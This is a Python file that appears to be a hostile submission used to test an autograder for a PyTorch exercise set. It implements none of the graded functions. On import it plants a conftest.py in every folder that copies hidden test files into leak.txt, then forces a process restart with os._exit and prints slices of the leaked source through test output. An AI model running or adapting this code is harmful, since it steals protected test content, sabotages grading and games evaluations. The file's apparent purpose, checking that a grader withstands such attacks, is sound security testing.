"""Hostile submission: reads the hidden tests' source after a restart and prints it into the feedback.

Attack: nothing is implemented. At import time it plants a `conftest.py` in every folder of its
working directory: pytest loads it in the next child before the grader hides the test files again,
and it copies every test file it sees into `leak.txt`. The first graded test then exits the process,
so that the grader restarts the child (and restores the hidden test file for it). From then on every
graded function prints its own 1900-character window of the leaked hidden source, so that the
captured output of failing tests carries the hidden tests to the student-visible report.
Outcome it must get: exactly 0 points, and no line of the hidden tests' source in anything a
student sees (test reasons and outputs, load errors, the overall error).
"""

import torch
from torch import nn

# Nothing is implemented honestly: every graded name exists and does nothing (returns None).
GRADED = ("tensor_info", "to_float32", "stack_images", "flatten_images", "channels_last", "horizontal_flip",
          "concat_features", "batched_affine", "relu", "numpy_bridge", "pick_device", "grad_f", "accumulated_grad",
          "grad_of", "numerical_grad", "LinearModel", "MLP", "count_parameters", "samples_needed", "softmax",
          "mse_loss", "cross_entropy", "kl_divergence", "one_hot", "hinge_loss", "gd_step", "minibatches", "train",
          "accuracy")


def _does_nothing(name):
    def stub(*args, **kwargs):
        return None

    stub.__name__ = stub.__qualname__ = name
    return stub


for _name in GRADED:
    globals()[_name] = _does_nothing(_name)


# ==================================================================================================
# The attack
# ==================================================================================================

import os

_CONFTEST = '''
import os
with open(os.path.join(os.getcwd(), "leak.txt"), "a", encoding="utf-8") as _leak:
    for _dirpath, _dirs, _files in os.walk(os.getcwd()):
        for _name in sorted(_files):
            if _name.startswith("test_") and _name.endswith(".py") and "hidden" in _dirpath:
                with open(os.path.join(_dirpath, _name), encoding="utf-8") as _f:
                    _leak.write(_f.read())
'''

for _dirpath, _dirs, _files in os.walk(os.getcwd()):
    try:
        with open(os.path.join(_dirpath, "conftest.py"), "w", encoding="utf-8") as _f:
            _f.write(_CONFTEST)
    except OSError:
        pass


def _leaked():
    try:
        with open(os.path.join(os.getcwd(), "leak.txt"), encoding="utf-8") as f:
            return f.read()
    except OSError:
        return ""


def _leaking(index, name):
    def stub(*args, **kwargs):
        text = _leaked()
        if not text and index == 0:
            os._exit(0)  # no leak yet: get the child restarted, the planted conftest runs then
        print(text[index * 1900:(index + 1) * 1900])
        return None

    stub.__name__ = name
    return stub


for _index, _name in enumerate(GRADED):
    globals()[_name] = _leaking(_index, _name)
